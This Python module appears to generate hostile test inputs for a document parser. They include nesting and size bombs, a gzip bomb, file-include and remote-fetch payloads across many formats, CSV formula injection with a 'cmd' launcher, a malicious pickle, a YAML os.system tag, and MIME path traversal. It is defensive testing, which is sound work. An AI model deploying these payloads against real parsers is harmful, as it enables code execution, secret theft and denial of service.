"""Hostile texts: nesting, long lines, calls to others, code in the clothes of data."""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
import zlib
from collections.abc import Iterator

_DEEP = 100_000


def hostile(address: str, secret: str) -> Iterator[tuple[str, bytes]]:
    """Yield the files; none may call `address` or show what the file `secret` holds."""
    yield from _nested()
    yield from _long()
    for name, text in _calls(address, secret).items():
        yield name, text.encode()
    yield from _code()
    yield from _mails(address, secret)
    yield from _images()


def _nested() -> Iterator[tuple[str, bytes]]:
    for name, opening, closing in (
        ("md-quotes.md", "> ", ""), ("md-brackets.md", "[", "]"), ("md-images.md", "![", "](x)"),
        ("md-stars.md", "*a ", ""), ("md-underlines.md", "_a*", ""), ("md-ticks.md", "`a``", ""),
        ("md-list.md", "- ", ""), ("md-angles.md", "<a ", ""), ("md-entities.md", "&amp;", ""),
        ("html-div.html", "<div>", "</div>"), ("html-b.html", "<b>", ""),
        ("html-table.html", "<table><tr><td>", ""), ("html-comment.html", "<!-- ", ""),
        ("html-a.html", "<a href=x>", ""), ("html-svg.html", "<svg><foreignObject>", ""),
        ("json-list.json", "[", "]"), ("json-object.json", '{"a":', "}"),
        ("jsonl-list.jsonl", "[", "]"), ("ipynb-list.ipynb", "[", "]"),
        ("xml-deep.xml", "<a>", "</a>"), ("fb2-deep.fb2", "<section>", "</section>"),
        ("rtf-groups.rtf", "{", "}"), ("rst-emphasis.rst", "*a `b ", ""),
        ("rst-bars.rst", "|a", "|"), ("org-stars.org", "*", ""),
        ("org-blocks.org", "#+BEGIN_X\n", ""),
        ("yaml.md", "---\na: [", ""), ("html-quotes.html", "<q a='", ""),
    ):  # fmt: skip
        prefix = "{\\rtf1 " if name.endswith("rtf") else ""
        yield name, (prefix + opening * _DEEP + "text" + closing * _DEEP).encode()


def _long() -> Iterator[tuple[str, bytes]]:
    for suffix in ("md", "txt", "rst", "org", "html", "csv", "tsv", "jsonl", "json", "eml", "log"):
        yield f"long-line.{suffix}", b"word " * 2_000_000
        yield f"long-word.{suffix}", b"w" * 10_000_000
        yield f"long-blank.{suffix}", b"x" + b" \t" * 2_000_000 + b"x"
        yield f"long-empty.{suffix}", b"a\n" + b"\n" * 5_000_000 + b"b"
    yield "columns.csv", (b"a," * 200_000 + b"\n") * 3
    yield "same-columns.csv", b",".join([b"a"] * 3_000) + b"\n" + b",".join([b"1"] * 3_000)
    yield "quote.csv", b'a,b\n1,"' + b"x,\n" * 3_000_000
    yield "keys.jsonl", json.dumps({f"key{n}": n for n in range(100_000)}).encode()
    yield "items.jsonl", json.dumps({"a": [{f"k{n}": 1} for n in range(20_000)]}).encode()
    yield "number.json", b'{"a": ' + b"9" * 1_000_000 + b"}"
    yield "surrogate.jsonl", b'{"_id": "\\ud800", "text": "half \\udfff of a pair", "n": NaN}'
    yield "headings.md", b"".join(b"#" * (n % 6 + 1) + b" h\n" for n in range(200_000))
    yield "table.md", b"|a" * 20_000 + b"\n" + b"|-" * 20_000 + b"\n" + b"|b" * 20_000
    yield "links.md", b"".join(b"[a%d]: http://x\n" % n for n in range(100_000))
    yield "attributes.html", b"<p " + b"a=b " * 500_000 + b">text"
    yield (
        "controls.txt",
        b"text\x00\x1b[2J\x07\x08" + "\u202eabc\u200b\ufeff".encode() + b" text" * 99,
    )
    yield "marc.mrc", b"99999nam a2299999 a 4500" + b"245001009999\x1e" * 9_000 + b"\x1d"
    yield "bomb.jsonl.gz", _gzip(bytes(1 << 28))


def _gzip(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()


def _calls(address: str, secret: str) -> dict[str, str]:
    image = f"![x]({address}/i) <img src='{address}/i'> <script src='{address}/s'></script>"
    cell = {
        "cell_type": "markdown",
        "metadata": {},
        "source": image + f"<embed src=file://{secret}>",
    }
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return {
        "call.md": f"# x\n\n{image}\n\n[a]: {address}/r\n\n{{* {secret} *}}\n\n--8<-- '{secret}'",
        "call-template.md": f"{{% include '{secret}' %}} {{{{ open('{secret}').read() }}}} text",
        "call.html": f"<base href='{address}'><link rel=stylesheet href='{address}/c'><meta"
        f" http-equiv=refresh content='0;url={address}'><iframe src='file://{secret}'></iframe>text",
        "include.rst": f"Title\n=====\n\n.. include:: {secret}\n\n.. literalinclude:: {secret}\n\n"
        f".. raw:: html\n   :file: {secret}\n\n.. csv-table::\n   :url: {address}/t\n\ntext",
        "include.org": f'* x\n#+INCLUDE: "{secret}"\n#+SETUPFILE: {address}/o\n[[file:{secret}]]',
        "call.ipynb": json.dumps(book),
        "link.jsonl": json.dumps({"_id": f"../../{secret}", "title": address, "text": "text"}),
        "formula.csv": f"a,b\n=WEBSERVICE(\"{address}/w\"),=cmd|'/c calc'!A0\n",
        "include.xml": f'<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file://{secret}"'
        f' parse="text"/><x:include href="{address}/x"/>text</r>',
        "style.xml": f"<?xml-stylesheet href='{address}/s'?><r>text</r>",
        "field.rtf": r"{\rtf1 {\field{\*\fldinst INCLUDETEXT "
        + f'"{secret}"'
        + r"}{\fldrslt text}}{\*\template "
        + f"{address}/t"
        + "}text}",
    }


def _code() -> Iterator[tuple[str, bytes]]:
    attack = pickle.dumps(_Attack())
    for suffix in ("pkl", "pt", "npy", "txt", "json", "md", "docx", "msg", "zip", "pdf"):
        yield f"pickle.{suffix}", attack
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + attack
    for suffix in ("npy", "csv", "txt"):
        yield f"array.{suffix}", array
    for name, front in {
        "object": "a: !!python/object/apply:os.system ['touch /tmp/escaped']",
        "anchors": "a: &a [x, x, x]\n" + "".join(
            f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
            for before, name in zip("abcdefghi", "bcdefghij", strict=True)
        ),
    }.items():  # fmt: skip
        yield f"front-{name}.md", f"---\n{front}\n---\n# text\n".encode()


class _Attack:
    """Makes a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, ("/tmp/escaped-pickle", "w")


def _mails(address: str, secret: str) -> Iterator[tuple[str, bytes]]:
    head = b"From: a@b\nTo: c@d\nSubject: s\nMIME-Version: 1.0\n"
    part = b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n'
    nested = b"".join(part % (n, n) for n in range(3_000))
    yield "nested.eml", head + nested + b"\ntext"
    yield "headers.eml", head + b"X-A: b\n" * 200_000 + b"\ntext"
    yield "folded.eml", head + b"X-A: b\n" + b" b\n" * 500_000 + b"\ntext"
    yield "words.eml", b"Subject: " + b"=?utf-8?q?x?= " * 100_000 + b"\n\ntext"
    external = (
        f'Content-Type: message/external-body; access-type=URL; URL="{address}/e"\n\n'
        f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\n\ntext'
    )
    yield "external.eml", head + external.encode()
    mail = head + b"\ntext"
    for _ in range(30):
        mail = (
            head
            + b'Content-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: message/rfc822\n'
            + b'Content-Disposition: attachment; filename="../../escaped.eml"\n'
            + b"Content-Transfer-Encoding: base64\n\n"
            + base64.encodebytes(mail)
            + b"\n--x--"
        )
        if len(mail) > 5_000_000:
            break
    yield "attached.eml", mail
    yield "box.mbox", b"From a Thu Jan  1 00:00:00 1970\n\ntext\n\n" * 20_000


def _images() -> Iterator[tuple[str, bytes]]:
    header = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + header
    out = io.BytesIO()
    out.write(b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk)
    out.write(struct.pack(">I", zlib.crc32(chunk)) + b"\x00" * 200)
    for suffix in ("png", "pdf", "docx", "html", "txt", "md", "tif", "epub", "csv"):
        yield f"image.{suffix}", out.getvalue()
    yield "program.txt", b"\x7fELF" + bytes(5000)
    yield "old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)
    yield "loop.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00\x00\x00\x00" * 9000
